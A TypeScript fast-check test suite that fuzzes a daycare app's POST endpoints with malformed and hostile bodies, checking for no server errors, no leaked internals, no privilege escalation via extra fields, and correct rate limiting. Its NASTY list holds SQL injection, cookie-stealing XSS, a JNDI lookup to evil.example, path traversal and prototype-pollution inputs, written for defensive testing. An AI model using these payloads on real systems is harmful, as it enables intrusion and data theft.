/**
 * Property-based tests (fast-check) of every POST of the /api contract: random and hostile bodies
 * (wrong types, huge strings, unicode, injection strings, text PostgreSQL cannot keep, extra fields such
 * as role, createdBy, family and id) sent as the endpoint's caller (admin for the staff endpoints,
 * anonymous for the public ones).
 *
 * For every body: never a 5xx and no internals in the answer; a refusal writes nothing; an acceptance
 * writes exactly one record whose text fields are stored verbatim and on which no extra field took
 * effect. Then 50 concurrent submissions of each public form, with the rate limit off and on.
 */
import { randomInt } from 'node:crypto'

import fc from 'fast-check'
import type { CollectionSlug, Where } from 'payload'
import { afterEach, beforeAll, describe, expect, it } from 'vitest'

import { CLIENT_ADDRESS_HEADER } from '@/lib/clientAddress'
import { APPLICATION_AGE_GROUPS, CURRICULUM_CATEGORIES, MILESTONE_CATEGORIES, SCHEDULE_PREFERENCES, SERVICES_NEEDED, VIDEO_CATEGORIES } from '@/lib/constants'
import { DEMO_FAMILIES, seedPasswords } from '@/seed/demoData'
import { SECURE_ADMIN_USERNAME } from '@/features/accounts/secureAdmin'
import { type ApiOptions, type ApiResult, api as callApi, apiLogin } from './helpers/api'
import { type Actors, countAll, firstChildOf, loadActors, testPayload } from './helpers/payload'
import { validApplication } from './helpers/fixtures'
import { awaitRoomInThisMinute } from './helpers/http'

type Obj = Record<string, unknown>
type Caller = 'admin' | 'anonymous'

const NUM_RUNS = 30
const OMIT = Symbol('omit')
const INJECTED_ID = '11111111-1111-4111-8111-111111111111'
const LONG_AGO = '1999-01-01T00:00:00.000Z'

let actors: Actors
let adminCookie: string
let childA: string
let childB: string
let familyOfChild: Record<string, string>

/** Text an attacker likes: injections, markup, templates, odd unicode. All of it valid text. */
const NASTY = [
  "'; drop table users; --",
  'Robert"); DROP TABLE children;--',
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(document.cookie)>',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../etc/passwd',
  '%00%27%22',
  '{"$gt": ""}',
  '__proto__',
  'Zoë Çelik-Øster',
  '山田 太郎',
  'مرحبا بالعالم',
  'שלום',
  '👩‍👩‍👧‍👦 🧒🏽',
  'e\u0301 \u200b \u200f \uFEFF',
  'tab\there\nnew line\r\nand more',
  '\\u0000 written out',
]
/** Text PostgreSQL cannot keep as sent: always refused, never written. */
const UNSTORABLE = ['nul\u0000byte', 'lone \uD800 surrogate', '\uDFFF']

const nastyText = (min = 1, max = 80): fc.Arbitrary<string> =>
  fc
    .oneof(
      fc.constantFrom(...NASTY),
      fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, 40) }),
      fc.string({ unit: 'binary', minLength: min, maxLength: Math.min(max, 40) }),
      fc.tuple(fc.constantFrom(...NASTY), fc.string({ unit: 'grapheme', maxLength: 20 })).map(([a, b]) => `${a}${b}`),
      {
        // Surrounding white space is part of the text: stored as sent, never trimmed.
        weight: 2,
        arbitrary: fc
          .tuple(fc.constantFrom(' ', '  ', '\t', '\n', '\u00a0'), fc.constantFrom(...NASTY), fc.constantFrom('', ' ', '\r\n', '\u3000'))
          .map(([before, text, after]) => `${before}${text}${after}`),
      },
    )
    .filter((text) => text.length >= min && text.length <= max)

/** Values of the wrong type or shape, or sizes no field accepts. */
const hostile: fc.Arbitrary<unknown> = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.constant(''),
  fc.constant('   '),
  fc.constantFrom(...UNSTORABLE),
  fc.array(fc.jsonValue({ maxDepth: 1 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 6 }), fc.jsonValue({ maxDepth: 1 }), { maxKeys: 3 }),
  fc.constantFrom('x'.repeat(5001), 'é'.repeat(20_000), '😀'.repeat(3000), 'a'.repeat(200_000)),
)

const day = fc.date({ min: new Date('2000-01-01T00:00:00Z'), max: new Date('2035-12-31T00:00:00Z'), noInvalidDate: true })
const dateOnly = day.map((date) => date.toISOString().slice(0, 10))
const dateOrTimestamp = fc.oneof(dateOnly, day.map((date) => date.toISOString()))
const email = fc.oneof(
  fc.stringMatching(/^[a-z0-9][a-z0-9._+-]{0,15}[a-z0-9]$/).map((local) => `${local}@example.com`),
  fc.constantFrom("o'brien@example.com", 'A.Person+tag@Example.COM', 'x@sub.example.org'),
  fc.emailAddress(),
)
const optional = <T>(arb: fc.Arbitrary<T>) => fc.option(arb, { nil: OMIT as unknown as T, freq: 3 })
const values = (options: readonly { value: string }[]) => options.map((option) => option.value)

type Spec = {
  path: string
  caller: Caller
  /** Valid values per field (text fields valid but hostile); OMIT leaves the field out. */
  fields: () => Record<string, fc.Arbitrary<unknown>>
  /** Collections an acceptance adds exactly one document to. */
  counted: CollectionSlug[]
  ok: number
  /** Statuses a refusal may have. */
  refusals?: number[]
  created?: (body: Obj) => { collection: CollectionSlug; id: string }
  /** Wire fields stored verbatim (wire name → stored name). */
  verbatim?: Record<string, string>
  /** Makes unique what must be (usernames, emails), keeping invalid values invalid. */
  prepare?: (body: Obj) => Obj
  verify?: (sent: Obj, stored: Obj, response: Obj) => void | Promise<void>
  /** A body the endpoint accepts, tried first so every run reaches the acceptance side. */
  example?: () => Obj
}

let serial = 0
const tag = () => `${Date.now().toString(36)}${(serial++).toString(36)}`
const uniqueAccount = (body: Obj): Obj => {
  const next = { ...body }
  if (typeof next.username === 'string' && /^[A-Za-z0-9._@-]{3,36}$/.test(next.username)) next.username = `${next.username}.${tag()}`
  if (typeof next.email === 'string') {
    const at = next.email.lastIndexOf('@')
    if (at > 0 && at < 40) next.email = `${next.email.slice(0, at)}.${tag()}${next.email.slice(at)}`
  }
  return next
}

const same = (...names: string[]) => Object.fromEntries(names.map((name) => [name, name]))
const recent = (value: unknown) => Math.abs(Date.parse(String(value)) - Date.now()) < 120_000

/** Account checks: always a parent, names verbatim, username and email as stored (lower case), the password works. */
async function verifyParentAccount(sent: Obj, stored: Obj) {
  expect(stored.role).toBe('parent')
  if (typeof sent.username === 'string') expect(stored.username).toBe(sent.username.toLowerCase())
  if (typeof sent.email === 'string' && sent.email !== '') expect(stored.email).toBe(sent.email.trim().toLowerCase())
  expect(stored.hash).not.toBe(sent.hash)
  expect(stored.loginAttempts ?? 0).toBe(0)
  expect(stored.lockUntil ?? null).toBeNull()
  if (typeof sent.password === 'string') {
    const cookie = await apiLogin(String(sent.username), sent.password)
    expect(cookie).toMatch(/^payload-token=/)
  }
}

/** A record about a child: that child, its family, created by the session's admin, whatever the body said. */
function verifyFamilyRecord(sent: Obj, stored: Obj, { createdBy }: { createdBy: boolean }) {
  expect(stored.child).toBe(sent.childId)
  expect(stored.family).toBe(familyOfChild[String(sent.childId)])
  if (createdBy) expect(stored.createdBy).toBe(actors.admin!.id)
}

const accountFields = () => ({
  username: fc.oneof(fc.stringMatching(/^[A-Za-z0-9._@-]{3,20}$/), nastyText(1, 30)),
  password: fc.oneof(nastyText(6, 60), fc.string({ minLength: 6, maxLength: 128 })),
  firstName: nastyText(1, 100),
  lastName: nastyText(1, 100),
  email: optional(fc.oneof(email, fc.constant(''))),
})

/** POST /api/admin/users and /api/admin/parents: the same parent account, whatever the body says. */
const parentAccountCreation = {
  caller: 'admin',
  fields: accountFields,
  counted: ['users'],
  ok: 201,
  created: (body: Obj) => ({ collection: 'users', id: String((body.user as Obj).id) }),
  verbatim: same('firstName', 'lastName'),
  prepare: uniqueAccount,
  verify: verifyParentAccount,
} satisfies Partial<Spec>

const childFields = () => ({
  firstName: nastyText(1, 100),
  lastName: nastyText(1, 100),
  dateOfBirth: dateOnly,
  ageGroup: optional(nastyText(0, 100)),
  parentId: fc.constantFrom(actors.parentA!.id, actors.parentB!.id),
  enrollmentDate: dateOrTimestamp,
  specialNeeds: optional(nastyText(0, 200)),
  medicalConditions: optional(nastyText(0, 200)),
  allergies: optional(nastyText(0, 200)),
  dietaryRestrictions: optional(nastyText(0, 200)),
  emergencyContact: optional(nastyText(0, 200)),
  emergencyContactPhone: optional(nastyText(0, 30)),
  preferredNapTime: optional(nastyText(0, 100)),
  favoriteActivities: optional(nastyText(0, 200)),
  parentNotes: optional(nastyText(0, 200)),
  profileImage: optional(fc.oneof(fc.webUrl(), nastyText(0, 100))),
})
const CHILD_TEXT = same(
  'firstName',
  'lastName',
  'ageGroup',
  'specialNeeds',
  'medicalConditions',
  'allergies',
  'dietaryRestrictions',
  'emergencyContact',
  'emergencyContactPhone',
  'preferredNapTime',
  'favoriteActivities',
  'parentNotes',
  'profileImage',
)
const verifyChild = (sent: Obj, stored: Obj) => {
  expect(stored.parent).toBe(sent.parentId)
  expect(String(stored.dateOfBirth).slice(0, 10)).toBe(String(sent.dateOfBirth).slice(0, 10))
}

const SPECS: Spec[] = [
  {
    path: '/api/applications',
    example: () => ({
      parentFirstName: "O'Brien <b>",
      parentLastName: 'Ñúñez',
      email: 'ana@example.com',
      phone: '(919) 555-0100',
      address: "1 Main St'; --",
      childFirstName: 'Leo',
      childLastName: '山田',
      childDateOfBirth: '2023-05-01',
      childAgeGroup: 'toddler',
      desiredStartDate: '2027-01-04',
      schedulePreference: 'first-shift',
      role: 'admin',
      id: INJECTED_ID,
    }),
    caller: 'anonymous',
    fields: () => ({
      parentFirstName: nastyText(1, 100),
      parentLastName: nastyText(1, 100),
      email,
      phone: fc.oneof(fc.constantFrom('(919) 555-0100', '+1 919 555 0100 x7'), nastyText(10, 30)),
      address: nastyText(1, 500),
      childFirstName: nastyText(1, 100),
      childLastName: nastyText(1, 100),
      childDateOfBirth: dateOnly,
      childAgeGroup: fc.constantFrom(...values(APPLICATION_AGE_GROUPS)),
      desiredStartDate: dateOrTimestamp,
      schedulePreference: fc.constantFrom(...values(SCHEDULE_PREFERENCES)),
      servicesNeeded: optional(fc.subarray(values(SERVICES_NEEDED))),
      voucherInterested: optional(fc.boolean()),
      specialNeeds: optional(nastyText(0, 500)),
      questions: optional(nastyText(0, 500)),
    }),
    counted: ['applications'],
    ok: 201,
    created: (body) => ({ collection: 'applications', id: String(body.id) }),
    verbatim: same(
      'parentFirstName',
      'parentLastName',
      'email',
      'phone',
      'address',
      'childFirstName',
      'childLastName',
      'childDateOfBirth',
      'childAgeGroup',
      'desiredStartDate',
      'schedulePreference',
      'specialNeeds',
      'questions',
    ),
    verify: (sent, stored) => {
      expect(stored.servicesNeeded ?? []).toEqual(Array.isArray(sent.servicesNeeded) ? sent.servicesNeeded : [])
      expect(stored.voucherInterested).toBe(typeof sent.voucherInterested === 'boolean' ? sent.voucherInterested : false)
      if (sent.specialNeeds === undefined) expect(stored.specialNeeds).toBe('')
      if (sent.questions === undefined) expect(stored.questions).toBe('')
      expect(recent(stored.submittedAt)).toBe(true)
    },
  },
  {
    path: '/api/contact',
    example: () => ({ name: '<script>x</script>', email: 'ana@example.com', message: "'; drop table users; --", submittedAt: LONG_AGO }),
    caller: 'anonymous',
    fields: () => ({ name: nastyText(1, 100), email, message: nastyText(10, 2000) }),
    counted: ['contact-messages'],
    ok: 201,
    created: (body) => ({ collection: 'contact-messages', id: String(body.id) }),
    verbatim: same('name', 'email', 'message'),
    verify: (_sent, stored) => expect(recent(stored.submittedAt)).toBe(true),
  },
  {
    path: '/api/login',
    caller: 'anonymous',
    fields: () => ({ username: nastyText(1, 60), password: nastyText(1, 60) }),
    counted: ['users'],
    ok: 200,
    refusals: [400, 401, 413],
    // Never a seeded account: failures would lock it for the files that follow.
    prepare: (body) => (typeof body.username === 'string' && SEEDED_USERNAMES.has(body.username.trim().toLowerCase()) ? { ...body, username: `x${body.username}` } : body),
  },
  {
    path: '/api/admin/users',
    example: () => ({ username: 'Prop.User', password: 'pässwörd 😀', firstName: 'Zoë', lastName: "O'Neil", email: 'Prop.User@Example.com', role: 'admin' }),
    ...parentAccountCreation,
  },
  {
    path: '/api/admin/parents',
    example: () => ({ username: 'prop.parent', password: 'secret-123', firstName: 'Ana', lastName: 'Silva', role: 'admin', hash: 'x' }),
    ...parentAccountCreation,
  },
  {
    path: '/api/parents',
    example: () => ({ firstName: 'Ana', lastName: '<i>Silva</i>', email: 'ana.silva@example.com', role: 'admin' }),
    caller: 'admin',
    fields: () => ({ firstName: nastyText(1, 100), lastName: nastyText(1, 100), email }),
    counted: ['users'],
    ok: 201,
    created: (body) => ({ collection: 'users', id: String(body.id) }),
    verbatim: same('firstName', 'lastName'),
    prepare: uniqueAccount,
    verify: (sent, stored) => verifyParentAccount({ ...sent, password: undefined }, stored),
  },
  {
    path: '/api/admin/children',
    example: () => ({ firstName: 'Mateo', lastName: 'Garcia', dateOfBirth: '2023-01-01', parentId: actors.parentA!.id, enrollmentDate: '2026-01-05', parent: actors.parentB!.id }),
    caller: 'admin',
    fields: childFields,
    counted: ['children'],
    ok: 201,
    created: (body) => ({ collection: 'children', id: String((body.child as Obj).id) }),
    verbatim: CHILD_TEXT,
    verify: verifyChild,
  },
  {
    path: '/api/children',
    example: () => ({ firstName: 'Mateo', lastName: 'Garcia', dateOfBirth: '2023-01-01', parentId: actors.parentB!.id, enrollmentDate: '2026-01-05', allergies: '🥜' }),
    caller: 'admin',
    fields: childFields,
    counted: ['children'],
    ok: 201,
    created: (body) => ({ collection: 'children', id: String(body.id) }),
    verbatim: CHILD_TEXT,
    verify: verifyChild,
  },
  {
    path: '/api/admin/curriculum',
    example: () => ({ childId: childA, title: 'Leaves', description: 'Counted leaves', category: 'learning', child: childB, family: actors.parentB!.id }),
    caller: 'admin',
    fields: () => ({
      childId: fc.constantFrom(childA, childB),
      title: nastyText(1, 500),
      description: nastyText(1, 2000),
      category: fc.constantFrom(...CURRICULUM_CATEGORIES),
      completedAt: optional(dateOrTimestamp),
      notes: optional(nastyText(0, 500)),
    }),
    counted: ['curriculum-activities'],
    ok: 201,
    created: (body) => ({ collection: 'curriculum-activities', id: String((body.activity as Obj).id) }),
    verbatim: same('title', 'description', 'category', 'notes'),
    verify: (sent, stored) => verifyFamilyRecord(sent, stored, { createdBy: false }),
  },
  {
    path: '/api/admin/videos',
    example: () => ({ childId: childB, title: 'Clip', videoUrl: 'https://videos.example/a.mp4', category: 'activity', child: childA }),
    caller: 'admin',
    fields: () => ({
      childId: fc.constantFrom(childA, childB),
      title: nastyText(1, 500),
      description: optional(nastyText(0, 500)),
      videoUrl: fc.oneof(fc.webUrl({ withQueryParameters: true, withFragments: true }), fc.constant('/api/cms/media/file/clip.mp4')),
      thumbnailUrl: optional(fc.oneof(fc.webUrl(), fc.constant(''))),
      category: fc.constantFrom(...VIDEO_CATEGORIES),
      recordedAt: optional(dateOrTimestamp),
    }),
    counted: ['development-videos'],
    ok: 201,
    created: (body) => ({ collection: 'development-videos', id: String((body.video as Obj).id) }),
    verbatim: same('title', 'description', 'videoUrl', 'thumbnailUrl', 'category'),
    verify: (sent, stored) => verifyFamilyRecord(sent, stored, { createdBy: false }),
  },
  {
    path: '/api/daily-activities',
    example: () => ({ childId: childA, date: '2026-11-25', mood: 'happy', createdBy: actors.parentB!.id, family: actors.parentB!.id }),
    caller: 'admin',
    fields: () => ({
      childId: fc.constantFrom(childA, childB),
      date: dateOrTimestamp,
      mealTime: optional(nastyText(0, 200)),
      napTime: optional(nastyText(0, 200)),
      activities: optional(nastyText(0, 500)),
      mood: optional(fc.oneof(fc.constantFrom('happy', 'sad', 'energetic', 'tired', 'calm'), nastyText(0, 100))),
      notes: optional(nastyText(0, 500)),
    }),
    counted: ['daily-activities'],
    ok: 201,
    created: (body) => ({ collection: 'daily-activities', id: String(body.id) }),
    verbatim: same('mealTime', 'napTime', 'activities', 'mood', 'notes'),
    verify: (sent, stored) => verifyFamilyRecord(sent, stored, { createdBy: true }),
  },
  {
    path: '/api/milestones',
    example: () => ({ childId: childB, title: 'Hops', description: 'On one foot', createdBy: actors.parentA!.id, id: INJECTED_ID }),
    caller: 'admin',
    fields: () => ({
      childId: fc.constantFrom(childA, childB),
      title: nastyText(1, 500),
      description: nastyText(1, 2000),
      category: optional(fc.constantFrom(...MILESTONE_CATEGORIES)),
      achievedAt: optional(dateOrTimestamp),
      notes: optional(nastyText(0, 500)),
    }),
    counted: ['milestones'],
    ok: 201,
    created: (body) => ({ collection: 'milestones', id: String(body.id) }),
    verbatim: same('title', 'description', 'category', 'notes'),
    verify: (sent, stored) => {
      verifyFamilyRecord(sent, stored, { createdBy: true })
      if (sent.category === undefined) expect(stored.category).toBe('physical')
    },
  },
  {
    path: '/api/create-example',
    example: () => ({ role: 'admin' }),
    caller: 'admin',
    fields: () => ({}),
    counted: ['users', 'children'],
    ok: 201,
  },
  {
    path: '/api/secure-admin/login',
    caller: 'anonymous',
    fields: () => ({ password: nastyText(1, 256) }),
    counted: ['users'],
    ok: 200,
    refusals: [400, 401, 413],
  },
  {
    path: '/api/logout',
    example: () => ({}),
    caller: 'anonymous',
    fields: () => ({}),
    counted: [],
    ok: 200,
    refusals: [],
  },
]

let SEEDED_USERNAMES: Set<string>

/** Fields that must never take effect, whatever an endpoint is. */
const extraFields = () =>
  fc.record(
    {
      role: fc.constantFrom('admin', 'editor'),
      createdBy: fc.constant(actors.parentB!.id),
      family: fc.constant(actors.parentB!.id),
      id: fc.constant(INJECTED_ID),
      parent: fc.constant(actors.parentB!.id),
      child: fc.constant(childB),
      submittedAt: fc.constant(LONG_AGO),
      createdAt: fc.constant(LONG_AGO),
      updatedAt: fc.constant(LONG_AGO),
      hash: fc.constant('deadbeef'),
      salt: fc.constant('c0ffee'),
      loginAttempts: fc.constant(99),
      lockUntil: fc.constant('2999-01-01T00:00:00.000Z'),
      collection: fc.constant('users'),
      _status: fc.constant('published'),
    },
    { requiredKeys: [] },
  )

/** A request body: valid but hostile fields with up to three broken, extra fields and junk; sometimes not an object at all. */
function bodyOf(spec: Spec): fc.Arbitrary<unknown> {
  const fields = spec.fields()
  const names = Object.keys(fields)
  const breaks =
    names.length === 0
      ? fc.constant([] as [string, unknown][])
      : fc.oneof(fc.constant([] as [string, unknown][]), fc.array(fc.tuple(fc.constantFrom(...names), fc.oneof(hostile, fc.constant(OMIT))), { minLength: 1, maxLength: 3 }))
  const junk = fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue({ maxDepth: 2 }), { maxKeys: 3 })
  const object = fc.tuple(fc.record(fields), breaks, extraFields(), junk, fc.boolean()).map(([valid, broken, extras, random, pollute]) => {
    const body: Obj = { ...random, ...extras, ...valid }
    for (const [name, value] of broken) body[name] = value
    for (const key of Object.keys(body)) if (body[key] === OMIT) delete body[key]
    if (pollute) Object.defineProperty(body, '__proto__', { value: { role: 'admin', isAdmin: true }, enumerable: true, configurable: true, writable: true })
    return body
  })
  return fc.oneof({ weight: 12, arbitrary: object }, { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }) })
}

const isJsonObject = (text: string) => {
  try {
    const value: unknown = JSON.parse(text)
    return Boolean(value) && typeof value === 'object' && !Array.isArray(value)
  } catch {
    return false
  }
}

const NO_INTERNALS = [/"(hash|salt|stack|sessions|loginAttempts|lockUntil)"\s*:/, /\n\s*at\s/, /node_modules/, /\.(ts|js|mjs):\d+/]

async function send(spec: Spec, options: ApiOptions): Promise<ApiResult<Obj>> {
  const result = await callApi<Obj>('POST', spec.path, { cookie: spec.caller === 'admin' ? adminCookie : undefined, ...options })
  expect(result.status, `${spec.path}: ${result.text.slice(0, 300)}`).toBeLessThan(500)
  for (const pattern of NO_INTERNALS) expect(result.text).not.toMatch(pattern)
  return result
}

/** Staff accounts never change through these endpoints. */
const STAFF: Where = { role: { not_equals: 'parent' } }
const snapshot = async (spec: Spec) => Promise.all([...spec.counted.map((slug) => countAll(slug)), countAll('users', STAFF)])

beforeAll(async () => {
  process.env.RATE_LIMIT_LOGIN = '0'
  process.env.RATE_LIMIT_FORMS = '0'
  actors = await loadActors()
  adminCookie = await apiLogin('admin', seedPasswords().admin)
  childA = (await firstChildOf(actors.parentA)).id
  childB = (await firstChildOf(actors.parentB)).id
  familyOfChild = { [childA]: actors.parentA!.id, [childB]: actors.parentB!.id }
  SEEDED_USERNAMES = new Set(['admin', 'editor', SECURE_ADMIN_USERNAME, ...DEMO_FAMILIES.map((family) => family.username)])
})

afterEach(() => {
  process.env.RATE_LIMIT_LOGIN = '0'
  process.env.RATE_LIMIT_FORMS = '0'
})

describe('hostile bodies at every POST', () => {
  it.each(SPECS.map((spec) => [spec.path, spec] as const))('POST %s: never a 5xx, nothing written on refusal, verbatim when accepted', async (_path, spec) => {
    const payload = await testPayload()
    let accepted = 0
    let refused = 0
    await fc.assert(
      fc.asyncProperty(bodyOf(spec), async (generated) => {
        const body = spec.prepare && generated && typeof generated === 'object' && !Array.isArray(generated) ? spec.prepare(generated as Obj) : generated
        const before = await snapshot(spec)
        const result = await send(spec, { body })
        const after = await snapshot(spec)
        // Nothing leaked onto Object.prototype from a "__proto__" key.
        expect(({} as Obj).isAdmin).toBeUndefined()
        if (result.status !== spec.ok) {
          refused++
          expect(spec.refusals ?? [400, 409, 413]).toContain(result.status)
          expect(typeof result.body.message).toBe('string')
          expect(after, 'a refusal writes nothing').toEqual(before)
          expect(result.headers.get('set-cookie') ?? '').not.toMatch(/payload-token=[^;]+/)
          return
        }
        accepted++
        const sent = body as Obj
        expect(after.slice(0, -1), 'an acceptance writes exactly one').toEqual(before.slice(0, -1).map((count) => count + 1))
        expect(after.at(-1), 'staff accounts unchanged').toBe(before.at(-1))
        if (!spec.created) return
        const { collection, id } = spec.created(result.body)
        expect(id).not.toBe(INJECTED_ID)
        const stored = (await payload.findByID({ collection, id, depth: 0, overrideAccess: true, showHiddenFields: true })) as unknown as Obj
        for (const [wire, name] of Object.entries(spec.verbatim ?? {})) {
          if (typeof sent[wire] === 'string') expect(stored[name], `${wire} stored verbatim`).toBe(sent[wire])
        }
        expect(stored.createdAt).not.toBe(LONG_AGO)
        expect(recent(stored.createdAt)).toBe(true)
        await spec.verify?.(sent, stored, result.body)
      }),
      { numRuns: NUM_RUNS, examples: [[null] as [unknown], ...(spec.example ? [[spec.example()] as [unknown]] : [])] },
    )
    // The generator reaches both sides of every endpoint that can accept.
    if (spec.refusals === undefined || spec.refusals.length > 0) expect(refused).toBeGreaterThan(0)
    if (spec.created || spec.refusals?.length === 0) expect(accepted).toBeGreaterThan(0)
  })

  it('raw bodies that are not valid JSON objects are refused without a write, at every POST', async () => {
    const raw = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.json({ maxDepth: 2 }).map((text) => text.slice(0, Math.max(1, text.length - 1))),
      fc.constantFrom('{', '{"a":}', '[', '{"__proto__":', 'null', 'true', '"string"', '{"a": NaN}', '{\'a\': 1}', '\u0000'),
      fc.constant(`${'['.repeat(50_000)}${']'.repeat(50_000)}`),
      fc.constant(`${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`),
    )
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...SPECS.filter((spec) => spec.path !== '/api/logout')), raw, async (spec, text) => {
        const before = await snapshot(spec)
        const result = await send(spec, { raw: text, headers: { 'Content-Type': 'application/json' } })
        if (result.status >= 400) expect(await snapshot(spec)).toEqual(before)
        else expect(text.trim() === '' || isJsonObject(text), `${spec.path} accepted ${JSON.stringify(text)}`).toBe(true)
      }),
      { numRuns: 60 },
    )
  })
})

// ---------------------------------------------------------------------------------------------------
// Concurrent submissions of the public forms
// ---------------------------------------------------------------------------------------------------

const FORMS = [
  {
    path: '/api/applications',
    collection: 'applications' as const,
    marker: 'questions',
    body: (marker: string): Obj => ({
      ...validApplication(),
      questions: marker,
    }),
  },
  {
    path: '/api/contact',
    collection: 'contact-messages' as const,
    marker: 'message',
    body: (marker: string): Obj => ({ name: 'Ana Silva', email: 'ana.silva@example.com', message: marker }),
  },
]


/** How many stored documents carry each marker. */
async function storedMarkers(collection: 'applications' | 'contact-messages', field: string, prefix: string) {
  const payload = await testPayload()
  const { docs } = await payload.find({ collection, where: { [field]: { like: prefix } }, pagination: false, depth: 0, overrideAccess: true })
  const counts = new Map<string, number>()
  for (const doc of docs as unknown as Obj[]) counts.set(String(doc[field]), (counts.get(String(doc[field])) ?? 0) + 1)
  return counts
}

describe('50 concurrent submissions of each public form', () => {
  it.each(FORMS.map((form) => [form.path, form] as const))('POST %s with the limit off: all 50 stored, each exactly once', async (_path, form) => {
    process.env.RATE_LIMIT_FORMS = '0'
    const run = `concurrent-off-${randomInt(1e9)}`
    const markers = Array.from({ length: 50 }, (_, i) => `${run} submission ${i}`)
    const before = await countAll(form.collection)
    const address = `172.16.${randomInt(256)}.${randomInt(256)}`
    const results = await Promise.all(markers.map((marker) => callApi<Obj>('POST', form.path, { body: form.body(marker), headers: { [CLIENT_ADDRESS_HEADER]: address } })))
    expect(results.map((result) => result.status)).toEqual(markers.map(() => 201))
    expect(new Set(results.map((result) => result.body.id)).size).toBe(50)
    expect(await countAll(form.collection)).toBe(before + 50)
    const stored = await storedMarkers(form.collection, form.marker, run)
    expect(stored.size).toBe(50)
    for (const marker of markers) expect(stored.get(marker), marker).toBe(1)
  })

  it.each(FORMS.map((form) => [form.path, form] as const))('POST %s with a limit of 10 from one address: exactly the accepted are stored, the rest are 429', async (_path, form) => {
    await awaitRoomInThisMinute(20)
    process.env.RATE_LIMIT_FORMS = '10'
    const run = `concurrent-on-${randomInt(1e9)}`
    const markers = Array.from({ length: 50 }, (_, i) => `${run} submission ${i}`)
    const before = await countAll(form.collection)
    const address = `172.17.${randomInt(256)}.${randomInt(256)}`
    const results = await Promise.all(markers.map((marker) => callApi<Obj>('POST', form.path, { body: form.body(marker), headers: { [CLIENT_ADDRESS_HEADER]: address } })))
    process.env.RATE_LIMIT_FORMS = '0'
    const accepted = markers.filter((_, i) => results[i]!.status === 201)
    const refused = results.filter((result) => result.status !== 201)
    expect(accepted).toHaveLength(10)
    for (const result of refused) {
      expect(result.status).toBe(429)
      expect(Number(result.headers.get('retry-after'))).toBeGreaterThanOrEqual(1)
    }
    expect(await countAll(form.collection)).toBe(before + accepted.length)
    const stored = await storedMarkers(form.collection, form.marker, run)
    expect([...stored.keys()].sort()).toEqual([...accepted].sort())
    expect([...stored.values()].every((count) => count === 1)).toBe(true)
  })
})
